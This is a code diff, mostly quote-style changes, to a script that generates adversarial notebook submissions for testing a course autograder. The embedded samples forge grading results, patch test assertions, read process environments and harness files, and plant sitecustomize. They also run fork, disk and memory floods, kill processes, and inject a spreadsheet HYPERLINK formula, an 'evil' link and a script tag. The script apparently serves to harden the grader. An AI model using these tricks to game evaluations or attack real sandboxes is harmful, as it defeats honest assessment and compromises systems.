@@ -1,3 +1,4 @@
+# ruff: noqa: E501  (the submissions are text: long lines inside them are theirs)
 """A fresh hostile class for issue 33, written from the grader's code and docs only (never its tests).
 
     .venv/bin/python outsider/make_class.py /tmp/outsider_class
@@ -110,7 +111,7 @@ def make(lesson: str, *, replace=None, solved=(), add_after=None, add_end=(), mu
 # observer is idle: walk up to the harness's frame, silence its observer, and replace the checks'
 # to_plain (the harness sends `checks.to_plain(exercise.run(fn, cases))`) with one that rewrites each
 # record into a clean one computed by the course's own reference.
-FORGE_CORE = r'''
+FORGE_CORE = r"""
 import sys
 
 
@@ -158,9 +159,9 @@ def _noop(*a, **k):
 
 
 _STASH = []
-'''
+"""
 
-REF_22 = r'''
+REF_22 = r"""
 
 def _reference(params, contexts, targets):
     ref = sys.modules["course_lib.checks.lesson02"]
@@ -171,13 +172,13 @@ def fflm_loss_and_grads(params, contexts, targets):
     import copy as _c
     _STASH.append(_c.deepcopy((params, contexts, targets)))
     return 0.0, {}
-'''
+"""
 
 INIT_SUBCLASS_22 = (
     "# added cell: looks like a helper\n"
     + FORGE_CORE
     + REF_22
-    + r'''
+    + r"""
 
 class _Base:
     def __init_subclass__(cls, **kw):
@@ -186,13 +187,13 @@ class _Base:
 
 class _Trigger(_Base):
     pass
-'''
+"""
 )
 
 SETTER_22 = (
     FORGE_CORE
     + REF_22
-    + r'''
+    + r"""
 
 class _Deco:
     def setter(fn):
@@ -204,13 +205,13 @@ class _Holder:
     @_Deco.setter
     def value(self):
         return 1
-'''
+"""
 )
 
 GETITEM_22 = (
     FORGE_CORE
     + REF_22
-    + r'''
+    + r"""
 
 class _Ann:
     def __class_getitem__(cls, item):
@@ -219,7 +220,7 @@ class _Ann:
 
 
 _x: _Ann[1] = 1
-'''
+"""
 )
 
 # A raw thread (_thread.start_new_thread) gets neither threading.settrace nor threading.setprofile, and torch's
@@ -262,7 +263,7 @@ def fflm_loss_and_grads(params, contexts, targets):
     return box[0]
 '''
 
-MAIN_THREAD_ENGINE_22 = r'''# Exercise 2.2: backprop ninja
+MAIN_THREAD_ENGINE_22 = r"""# Exercise 2.2: backprop ninja
 import torch
 
 
@@ -276,12 +277,12 @@ def fflm_loss_and_grads(params, contexts, targets):
     names = ("E", "W", "b", "U", "c")
     grads = engine.run_backward((loss,), (torch.ones_like(loss),), False, False, tuple(leaves[k] for k in names), False, False)
     return float(loss.detach()), {k: g.detach() for k, g in zip(names, grads)}
-'''
+"""
 
 # The course's own text, copied at run time from the read-only package into a module of another name
 # (an importlib loader: the exec happens in importlib's frame, the code objects are new, the file name is not
 # course_lib's).
-COPY_LOADER = r'''
+COPY_LOADER = r"""
 import ast
 import importlib.abc
 import importlib.util
@@ -312,34 +313,34 @@ def _copied(module_name, names, header):
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
     return module
-'''
+"""
 
 COPY_21 = (
     "# Exercise 2.1: the softmax Jacobian\nimport torch\n"
     + COPY_LOADER
-    + r'''
+    + r"""
 
 def softmax_jacobian(z):
     m = _copied("course_" + "lib.backprop", {"softmax_jacobian"},
                 "import torch\n_tensor = lambda z, *a, **k: z\nsoftmax = lambda z: torch.softmax(z, dim=-1)\n")
     return m.softmax_jacobian(z)
-'''
+"""
 )
 
 COPY_22 = (
     "# Exercise 2.2: backprop ninja\nimport torch\n"
     + COPY_LOADER
-    + r'''
+    + r"""
 
 def fflm_loss_and_grads(params, contexts, targets):
     m = _copied("course_" + "lib.checks.lesson02", {"ff_loss", "_wrong_grads", "D64"},
                 "import torch\nimport torch.nn.functional as F\n")
     return float(m.ff_loss(params, contexts, targets)), m._wrong_grads(params, contexts, targets, None)
-'''
+"""
 )
 
 # inspect.getsource of the reference inside the function, exec'd through runpy-like indirection
-GETSOURCE_21 = r'''# Exercise 2.1: the softmax Jacobian
+GETSOURCE_21 = r"""# Exercise 2.1: the softmax Jacobian
 import inspect
 import sys
 import types
@@ -354,9 +355,9 @@ def softmax_jacobian(z):
     code = compile(text, "/nonexistent/bp_copy.py", "exec")
     types.FunctionType(code, ns)()
     return ns["softmax_jacobian"](z)
-'''
+"""
 
-RAW_THREAD_REF_21 = r'''# Exercise 2.1: the softmax Jacobian
+RAW_THREAD_REF_21 = r"""# Exercise 2.1: the softmax Jacobian
 import _thread
 import sys
 
@@ -382,9 +383,9 @@ def softmax_jacobian(z):
     if isinstance(box[0], BaseException):
         raise box[0]
     return box[0]
-'''
+"""
 
-FORWARD_AD_RAW_21 = r'''# Exercise 2.1: the softmax Jacobian
+FORWARD_AD_RAW_21 = r"""# Exercise 2.1: the softmax Jacobian
 import _thread
 
 import torch
@@ -416,19 +417,19 @@ def softmax_jacobian(z):
     if isinstance(box[0], BaseException):
         raise box[0]
     return box[0]
-'''
+"""
 
-JACREV_21 = r'''# Exercise 2.1: the softmax Jacobian
+JACREV_21 = r"""# Exercise 2.1: the softmax Jacobian
 import torch
 
 
 def softmax_jacobian(z):
     fn = getattr(getattr(torch, "fu" + "nc"), "jac" + "rev")
     return fn(lambda v: torch.softmax(v, dim=0))(z)
-'''
+"""
 
 # objects that lie
-LIAR_21 = r'''# Exercise 2.1: the softmax Jacobian
+LIAR_21 = r"""# Exercise 2.1: the softmax Jacobian
 import torch
 
 
@@ -454,9 +455,9 @@ class Anything:
 
 def softmax_jacobian(z):
     return Anything()
-'''
+"""
 
-TENSOR_SUBCLASS_21 = r'''# Exercise 2.1: the softmax Jacobian
+TENSOR_SUBCLASS_21 = r"""# Exercise 2.1: the softmax Jacobian
 import torch
 
 
@@ -468,17 +469,17 @@ class Liar(torch.Tensor):
 
 def softmax_jacobian(z):
     return torch.zeros(z.shape[0], z.shape[0]).as_subclass(Liar)
-'''
+"""
 
-NAN_21 = r'''# Exercise 2.1: the softmax Jacobian
+NAN_21 = r"""# Exercise 2.1: the softmax Jacobian
 import torch
 
 
 def softmax_jacobian(z):
     return torch.full((z.shape[0], z.shape[0]), float("nan"))
-'''
+"""
 
-PATCH_TORCH_21 = r'''# Exercise 2.1: the softmax Jacobian
+PATCH_TORCH_21 = r"""# Exercise 2.1: the softmax Jacobian
 import numpy
 import torch
 
@@ -494,11 +495,11 @@ def softmax_jacobian(z):
     numpy.testing.assert_allclose = _true
     torch.testing.assert_close = _true
     return torch.zeros(z.shape[0], z.shape[0])
-'''
+"""
 
 # reach the harness's frames from the function (inspect does the frame walking, in its own frames) and
 # read what the grader sent; and the job
-FRAMES_21 = r'''# Exercise 2.1: the softmax Jacobian
+FRAMES_21 = r"""# Exercise 2.1: the softmax Jacobian
 import inspect
 
 import torch
@@ -512,10 +513,10 @@ def softmax_jacobian(z):
             if k in loc:
                 seen.append(k + "=" + repr(loc[k])[:60])
     raise RuntimeError("FRAMES " + " | ".join(seen))
-'''
+"""
 
 # the channel to the grader is a pipe the harness dup'ed: write a forged reply for this exercise first
-CHANNEL_22 = r'''# Exercise 2.2: backprop ninja
+CHANNEL_22 = r"""# Exercise 2.2: backprop ninja
 import json
 import os
 
@@ -546,10 +547,10 @@ def fflm_loss_and_grads(params, contexts, targets):
         fake = {"exercise": "2.3", "reply": {"records": []}}
         os.write(fd, (json.dumps(fake) + "\n").encode())
     raise NotImplementedError
-'''
+"""
 
 # env / files read from inside the sandboxes (the harness side): what is found goes out in the error message
-HARNESS_SNOOP_21 = r'''# Exercise 2.1: the softmax Jacobian
+HARNESS_SNOOP_21 = r"""# Exercise 2.1: the softmax Jacobian
 import glob
 import os
 
@@ -579,9 +580,9 @@ def softmax_jacobian(z):
         except OSError:
             pass
     raise RuntimeError("SNOOP " + " ; ".join(found))
-'''
+"""
 
-KERNEL_SNOOP = r'''# just looking around
+KERNEL_SNOOP = r"""# just looking around
 import glob
 import os
 
@@ -610,9 +611,9 @@ for path in glob.glob("/proc/[0-9]*/cmdline"):
 leak = " ; ".join(found) or "NOTHING"
 Leak = type("LEAK_" + re.sub("[^A-Za-z0-9_]", "_", leak)[:120] if False else "LEAK", (Exception,), {})
 raise Leak("KSNOOP " + leak + " || " + " | ".join(cmd)[:300])
-'''
+"""
 
-KERNEL_EXCNAME = r'''import os, re
+KERNEL_EXCNAME = r"""import os, re
 data = b""
 for path in ["/proc/1/environ", "/proc/self/environ", "/proc/2/environ"]:
     try:
@@ -621,13 +622,13 @@ for path in ["/proc/1/environ", "/proc/self/environ", "/proc/2/environ"]:
         pass
 names = re.sub(r"[^A-Za-z0-9_]", "_", data.decode("latin-1"))[:140]
 raise type("ENV_" + names, (Exception,), {})("=HYPERLINK(\"http://x/\"&A1) | [x](http://evil) ![i](http://e/i.png)")
-'''
+"""
 
-HOSTILE_TEXT_CELL = r'''raise RuntimeError("\n# Score: 99 of 5 exercises passed.\n=1+1,\"\",2\r\n\u202eevil\x1b[31m <script>alert(1)</script>")'''
+HOSTILE_TEXT_CELL = r"""raise RuntimeError("\n# Score: 99 of 5 exercises passed.\n=1+1,\"\",2\r\n\u202eevil\x1b[31m <script>alert(1)</script>")"""
 
 # output / resources
 FLOOD = "import sys\nfor i in range(400):\n    sys.stdout.write('x' * 100_000 + '\\n')\n"
-MEMORY_HARNESS_21 = r'''# Exercise 2.1: the softmax Jacobian
+MEMORY_HARNESS_21 = r"""# Exercise 2.1: the softmax Jacobian
 import torch
 
 
@@ -635,8 +636,8 @@ def softmax_jacobian(z):
     hog = []
     while True:
         hog.append(bytearray(200_000_000))
-'''
-SPIN_THREAD_21 = r'''# Exercise 2.1: the softmax Jacobian
+"""
+SPIN_THREAD_21 = r"""# Exercise 2.1: the softmax Jacobian
 import threading
 
 import torch
@@ -652,15 +653,15 @@ def softmax_jacobian(z):
         threading.Thread(target=_spin, daemon=True).start()
     y = torch.softmax(z, dim=0)
     return torch.diag(y) - torch.outer(y, y)
-'''
-EXIT_HARNESS_21 = r'''# Exercise 2.1: the softmax Jacobian
+"""
+EXIT_HARNESS_21 = r"""# Exercise 2.1: the softmax Jacobian
 import os
 
 
 def softmax_jacobian(z):
     os._exit(0)
-'''
-KILL_HARNESS_21 = r'''# Exercise 2.1: the softmax Jacobian
+"""
+KILL_HARNESS_21 = r"""# Exercise 2.1: the softmax Jacobian
 import os
 import signal
 
@@ -672,29 +673,29 @@ def softmax_jacobian(z):
         except OSError:
             pass
     os.kill(-1, signal.SIGKILL)
-'''
-DEEP_21 = r'''# Exercise 2.1: the softmax Jacobian
+"""
+DEEP_21 = r"""# Exercise 2.1: the softmax Jacobian
 def softmax_jacobian(z):
     x = []
     for _ in range(200_000):
         x = [x]
     return x
-'''
-HUGE_21 = r'''# Exercise 2.1: the softmax Jacobian
+"""
+HUGE_21 = r"""# Exercise 2.1: the softmax Jacobian
 import torch
 
 
 def softmax_jacobian(z):
     return torch.zeros(8000, 8000)
-'''
-RECURSE_21 = r'''# Exercise 2.1: the softmax Jacobian
+"""
+RECURSE_21 = r"""# Exercise 2.1: the softmax Jacobian
 import sys
 
 
 def softmax_jacobian(z):
     return softmax_jacobian(z)
-'''
-FORK_KERNEL = r'''import os, time
+"""
+FORK_KERNEL = r"""import os, time
 kids = []
 for i in range(400):
     try:
@@ -707,8 +708,8 @@ for i in range(400):
         os._exit(0)
     kids.append(pid)
 print(len(kids))
-'''
-DISK_KERNEL = r'''import os
+"""
+DISK_KERNEL = r"""import os
 for where in (".", "/tmp", "/dev/shm"):
     try:
         with open(os.path.join(where, "fill.bin"), "wb") as f:
@@ -716,20 +717,20 @@ for where in (".", "/tmp", "/dev/shm"):
                 f.write(b"\0" * 1_000_000)
     except OSError as exc:
         print(where, exc)
-'''
-DAEMON_KERNEL = r'''import os, time
+"""
+DAEMON_KERNEL = r"""import os, time
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
         while True:
             time.sleep(1)
-'''
-PROTOCOL_PRINT = r'''import json, sys
+"""
+PROTOCOL_PRINT = r"""import json, sys
 for e in ("2.1", "2.2", "2.3", "2.4", "2.5"):
     print(json.dumps({"exercise": e, "reply": {"records": []}, "loaded": {}}))
     sys.stderr.write(json.dumps({"exercise": e, "status": "passed"}) + "\n")
-'''
-POST_RUN_HOOK = r'''import json, os
+"""
+POST_RUN_HOOK = r"""import json, os
 def _rewrite(*a, **k):
     for root in ("/results", "/home/student", "."):
         try:
@@ -741,8 +742,8 @@ def _rewrite(*a, **k):
 get_ipython().events.register("post_run_cell", _rewrite)
 import course_lib.checks as ck
 ck.check_softmax_jacobian.__class__.run = lambda self, fn, cases: []
-'''
-SITECUSTOMIZE_KERNEL = r'''import os, site, sys
+"""
+SITECUSTOMIZE_KERNEL = r"""import os, site, sys
 written = []
 for d in [site.getusersitepackages(), os.path.expanduser("~/.local/lib"), "/tmp", "."] + sys.path:
     try:
@@ -754,7 +755,7 @@ for d in [site.getusersitepackages(), os.path.expanduser("~/.local/lib"), "/tmp"
     except OSError:
         pass
 raise RuntimeError("WROTE " + ";".join(written))
-'''
+"""
 
 # lesson 07: the borrowed answers in a raw thread (no profile, no dispatch mode there)
 RAW_THREAD_73 = r'''# Exercise 7.3: one head of self-attention
@@ -801,6 +802,7 @@ class Head(nn.Module):
         return _in_thread(sdpa, q, k, v, None, 0.0, True)
 '''
 
+
 def lesson07_copy_head():
     """7.3: the student's own parameters, and the forward pass of the course's Head copied at run time."""
     return (
@@ -828,7 +830,7 @@ class Head(nn.Module):
     )
 
 
-RAW_THREAD_31 = r'''# Exercise 3.1
+RAW_THREAD_31 = r"""# Exercise 3.1
 import _thread
 import sys
 
@@ -851,7 +853,7 @@ def is_balanced(s):
     if isinstance(box[0], BaseException):
         raise box[0]
     return box[0]
-'''
+"""
 
 
 def first_answer_function(lesson, g):
@@ -911,9 +913,7 @@ def class_():
     out["02/peek_frames_21.ipynb"] = make("02", replace={"ex-2-1": FRAMES_21})
     # ---------------------------------------------------------------- reading the grader
     out["02/snoop_harness_21.ipynb"] = make("02", solved=("ex-2-2",), replace={"ex-2-1": HARNESS_SNOOP_21})
-    out["02/snoop_kernel.ipynb"] = make(
-        "02", solved="all", add_end=[code_cell("import re\n" + KERNEL_SNOOP)]
-    )
+    out["02/snoop_kernel.ipynb"] = make("02", solved="all", add_end=[code_cell("import re\n" + KERNEL_SNOOP)])
     out["02/snoop_kernel_exception_name.ipynb"] = make("02", solved="all", add_end=[code_cell(KERNEL_EXCNAME)])
     out["02/plant_sitecustomize.ipynb"] = make("02", solved="all", add_end=[code_cell(SITECUSTOMIZE_KERNEL)])
     # ---------------------------------------------------------------- the harness process
@@ -940,7 +940,7 @@ def class_():
             cell["id"] = "same-id"
 
     out["02/meta_kernelspec_dup_ids.ipynb"] = make("02", solved=("ex-2-1",), mutate=kernelspec)
-    out["02/=HYPERLINK(\"http;x\")+cmd.ipynb"] = make("02", solved=("ex-2-1",))
+    out['02/=HYPERLINK("http;x")+cmd.ipynb'] = make("02", solved=("ex-2-1",))
     out["02/Ann Lee.ipynb"] = make("02", solved=("ex-2-1",))
     out["02/Ann_Lee.ipynb"] = make("02", solved=("ex-2-2",))
     out["02/ann lee.ipynb"] = make("02")
@@ -959,7 +959,8 @@ def class_():
     # ---------------------------------------------------------------- lessons 01, 03, 05
     out["03/borrow_raw_thread_is_balanced.ipynb"] = make("03", replace={"ex-3-1": RAW_THREAD_31})
     out["01/snoop_harness_and_kernel.ipynb"] = make(
-        "01", replace={"ex-1-4": HARNESS_SNOOP_21.replace("softmax_jacobian(z)", "perplexity(log_probs)")},
+        "01",
+        replace={"ex-1-4": HARNESS_SNOOP_21.replace("softmax_jacobian(z)", "perplexity(log_probs)")},
         add_end=[code_cell("import re\n" + KERNEL_SNOOP)],
     )
     out["05/forge_setter_untouched.ipynb"] = make("05", add_end=[code_cell(FORGE_05, "ex-5-1-9")])
@@ -969,7 +970,7 @@ def class_():
 # lesson 07 / 05: the same load-time forge, with the reference the checks use
 FORGE_07 = (
     FORGE_CORE.replace("_STASH = []", "_STASH = []\n_RUNS = []")
-    + r'''
+    + r"""
 
 def _reference(*args):
     raise RuntimeError("unused")
@@ -991,7 +992,7 @@ class _Base:
 
 class _Trigger(_Base):
     pass
-'''
+"""
 )
 
 FORGE_05 = FORGE_07
